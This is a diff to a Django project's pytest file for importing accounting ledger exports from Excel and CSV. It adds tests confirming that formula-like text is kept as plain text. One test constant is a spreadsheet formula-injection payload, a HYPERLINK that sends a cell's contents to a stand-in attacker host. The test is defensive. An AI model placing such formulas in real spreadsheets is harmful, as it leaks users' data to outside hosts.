@@ -2,13 +2,13 @@
 
 import datetime
 import io
+import zipfile
 from decimal import Decimal
 
 from django.core.files.uploadedfile import SimpleUploadedFile
-from django.utils import timezone
 
 import pytest
-from openpyxl import Workbook
+from openpyxl import Workbook, load_workbook
 
 from governance.budget import cost_import
 from governance.budget.cost_import import ImportFileError, ImportRejected
@@ -332,15 +332,112 @@ def test_an_incomplete_mapping_is_refused(small):
     assert "Kolumnen ”Datum” är vald för två fält." in validation.mapping_errors
 
 
-def test_previewed_uploads_that_are_never_confirmed_are_deleted_after_a_day(db):
-    uploaded = SimpleUploadedFile("k.csv", b"Datum;Belopp\r\n2013-01-01;1\r\n")
-    token = cost_import.keep_pending_upload(uploaded)
-    with cost_import.open_pending_upload(token) as file_obj:
-        assert file_obj.read().startswith(b"Datum")
-    cost_import.forget_abandoned_uploads()
-    with cost_import.open_pending_upload(token):
-        pass
-    cost_import.forget_abandoned_uploads(now=timezone.now() + datetime.timedelta(days=2))
-    gone = pytest.raises(ImportFileError, match="Den uppladdade filen finns inte längre.")
-    with gone, cost_import.open_pending_upload(token):
-        pass
+# Files as accounting systems write them, and text that must never become a formula --------
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Klicka här")'
+LEDGER_HEADINGS = [
+    "Verifikationsnummer",
+    "Bokföringsdatum",
+    "Konto",
+    "Kostnadsslag",
+    "Arbetsområde",
+    "Aktivitet",
+    "Finansiär",
+    "Benämning",
+    "Belopp",
+]
+
+
+def ledger_xlsx(rows):
+    """An export from an accounting system: blank rows above the table (its print
+    layout), the system's headings, and text cells holding whatever the bookkeeper typed."""
+    workbook = Workbook()
+    sheet = workbook.active
+    sheet.title = "Huvudbok"
+    sheet.append([])  # the table starts further down, as in the system's print layout
+    sheet.append([None, None])
+    sheet.append(LEDGER_HEADINGS)
+    for row in rows:
+        sheet.append(row)
+        for cell in sheet[sheet.max_row]:
+            if isinstance(cell.value, str):
+                cell.data_type = "s"  # text, as the system wrote it, not a formula
+    buffer = io.BytesIO()
+    workbook.save(buffer)
+    buffer.seek(0)
+    return buffer
+
+
+def ledger_row(voucher, text, amount=100.0, day=datetime.datetime(2013, 5, 2)):
+    return [voucher, day, 4010, "Resor", "A", None, "Umeå kommun", text, amount]
+
+
+@pytest.mark.parametrize("description", [HYPERLINK, "=1+1", "@SUM(A1)", "+46 90 16 10 00", "-5"])
+def test_text_that_looks_like_a_formula_is_imported_and_exported_as_that_text(small, description):
+    from governance.budget import excel
+
+    batch, _validation = run_import(small, ledger_xlsx([ledger_row("L-1", description)]))
+    assert CostEntry.objects.get(voucher="L-1", batch=batch).description == description
+
+    content = excel.cost_entries_workbook(CostEntry.objects.filter(batch=batch))
+
+    sheet = load_workbook(io.BytesIO(content)).active
+    cell = sheet.cell(row=2, column=8)
+    assert sheet.cell(row=1, column=8).value == "Text"
+    assert (cell.value, cell.data_type) == (description, "s")
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
+
+
+def test_a_csv_with_a_formula_in_the_text_exports_it_as_text(small):
+    from governance.budget import excel
+
+    lines = ["2013-04-30;100;Personal;A;;;C-1;" + HYPERLINK.replace('"', '""').join('""')]
+    batch, _validation = run_import(small, csv_file(lines), "export.csv")
+    assert CostEntry.objects.get(voucher="C-1").description == HYPERLINK
+
+    sheet = load_workbook(io.BytesIO(excel.cost_entries_workbook(batch.entries.all()))).active
+    assert (sheet["H2"].value, sheet["H2"].data_type) == (HYPERLINK, "s")
+
+
+def test_a_ledger_with_its_table_further_down_gives_excel_row_numbers(small):
+    rows = [
+        ledger_row("L-1", "Tåg"),  # row 4
+        [None] * 9,  # row 5: blank
+        ["", "  ", None],  # row 6: blank too
+        ledger_row("L-2", "Hotell", amount="tvåhundra"),  # row 7
+        ledger_row("L-3", "Taxi", day="31.2.2013"),  # row 8
+    ]
+    with cost_import.open_sheet(ledger_xlsx(rows), "huvudbok.xlsx") as sheet:
+        assert sheet.header_row == 3
+        mapping = cost_import.guess_mapping(sheet.headers)
+    assert mapping == {
+        "date": "Bokföringsdatum",
+        "amount": "Belopp",
+        "category": "Kostnadsslag",
+        "work_area": "Arbetsområde",
+        "activity": "Aktivitet",
+        "financier": "Finansiär",
+        "voucher": "Verifikationsnummer",
+        "description": "Benämning",
+    }
+    validation = rejection(small, ledger_xlsx(rows), "huvudbok.xlsx")
+    assert validation.row_count == 3
+    assert [(e.row, e.column) for e in validation.errors] == [
+        (7, "Belopp"),
+        (8, "Bokföringsdatum"),
+    ]
+
+
+def test_a_workbook_that_breaks_while_its_rows_are_read_is_refused_with_a_message(small):
+    source = zipfile.ZipFile(xlsx_file(GOOD_ROWS * 200))
+    broken = io.BytesIO()
+    with zipfile.ZipFile(broken, "w") as archive:
+        for item in source.infolist():
+            data = source.read(item.filename)
+            if item.filename == "xl/worksheets/sheet1.xml":
+                data = data[: len(data) // 2]  # cut off in the middle of the rows
+            archive.writestr(item, data)
+    with pytest.raises(ImportFileError, match="kunde inte läsas som en Excel-fil"):
+        run_import(small, broken, "trasig.xlsx")
+    assert not CostImportBatch.objects.filter(file_name="trasig.xlsx").exists()
